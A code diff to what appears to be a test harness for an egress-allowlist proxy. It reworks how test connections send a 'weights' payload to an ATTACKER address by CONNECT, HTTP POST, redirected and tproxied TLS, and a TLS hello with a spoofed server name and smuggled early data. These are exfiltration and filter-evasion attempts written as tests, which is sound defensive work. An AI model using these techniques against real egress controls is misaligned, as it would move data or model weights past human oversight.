@@ -7,6 +7,8 @@ from harness.wait import seconds
 
 ATTACKER = "93.184.216.251"  # what a pod dials, whatever name it says
 PAYLOAD = b"weights" * 10
+EARLY_DATA = 42
+EARLY = tls.record(PAYLOAD, 0x17)
 
 ALLOWLIST = """
 serial = 7
@@ -51,7 +53,7 @@ def _exchange(s, *parts):
     """Sends what can be sent and returns what comes back, up to what an accepted hello's echo needs."""
     with s:
         s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-        s.settimeout(seconds(10))
+        s.settimeout(seconds(30))
         got = b""
         try:
             for part in parts:
@@ -66,8 +68,9 @@ def _exchange(s, *parts):
 
 
 def _hello(host):
-    """A hello that says exactly these bytes."""
-    return tls.named(host.encode("latin-1"))
+    """A hello that says exactly these bytes and offers early data, which may follow it at once."""
+    said = tls.Hello(tls.genuine("ok.test")).with_extension(tls.SERVER_NAME, tls.server_name(host.encode("latin-1")), first=True)
+    return tls.record(said.with_extension(EARLY_DATA, b"").message())
 
 
 class Ways:
@@ -79,23 +82,23 @@ class Ways:
     def connect(self, host, port=None):
         """CONNECT, with the hello eagerly in the same segment and more behind it."""
         target = f"{host}:{443 if port is None else port}".encode("latin-1")
-        return _exchange(self.exeat.connect(), b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n" + _hello(host) + PAYLOAD)
+        return _exchange(self.exeat.connect(), b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n" + _hello(host) + EARLY)
 
     def http(self, host, port=None):
         at = (host if port is None else f"{host}:{port}").encode("latin-1")
         return _exchange(self.exeat.connect(), b"POST http://" + at + b"/ HTTP/1.1\r\nHost: " + at + b"\r\nContent-Length: %d\r\n\r\n" % len(PAYLOAD) + PAYLOAD)
 
     def redirect_tls(self, host, port=None):
-        return _exchange(self.lab.topology.pod.connect(ATTACKER, port or 443, seconds(10)), _hello(host) + PAYLOAD)
+        return _exchange(self.lab.topology.pod.connect(ATTACKER, port or 443, seconds(30)), _hello(host) + EARLY)
 
     def redirect_http(self, host, port=None):
         at = (host if port is None else f"{host}:{port}").encode("latin-1")
-        return _exchange(self.lab.topology.pod.connect(ATTACKER, port or 80, seconds(10)),
+        return _exchange(self.lab.topology.pod.connect(ATTACKER, port or 80, seconds(30)),
                          b"POST / HTTP/1.1\r\nHost: " + at + b"\r\nContent-Length: %d\r\n\r\n" % len(PAYLOAD) + PAYLOAD)
 
     def tproxy_tls(self, host, port=None):
-        return _exchange(self.lab.topology.pod2.connect(ATTACKER, port or 443, seconds(10)), _hello(host) + PAYLOAD)
+        return _exchange(self.lab.topology.pod2.connect(ATTACKER, port or 443, seconds(30)), _hello(host) + EARLY)
 
     def sni(self, host, port=None):
         assert port is None
-        return _exchange(self.exeat.connect(port=self.ports["sni"]), _hello(host) + PAYLOAD)
+        return _exchange(self.exeat.connect(port=self.ports["sni"]), _hello(host) + EARLY)
